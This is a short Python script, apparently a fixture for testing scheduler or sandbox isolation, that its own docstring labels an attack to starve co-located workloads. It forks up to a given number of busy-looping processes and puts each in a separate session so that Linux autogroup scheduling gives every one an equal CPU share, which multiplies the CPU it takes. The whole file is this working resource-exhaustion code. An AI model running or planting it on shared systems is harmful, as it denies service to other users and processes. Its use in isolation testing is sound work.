"""Attack: starve whatever runs beside it. Forks up to argv[1] busy processes, each in a
session of its own (the kernel's autogroup scheduling gives every session an equal share,
so many sessions take many shares), and spins."""
print("ATTACK-START", flush=True)
import os
import sys

for _ in range(int(sys.argv[1])):
    try:
        if os.fork() == 0:
            os.setsid()
            break
    except OSError:
        break
while True:
    pass
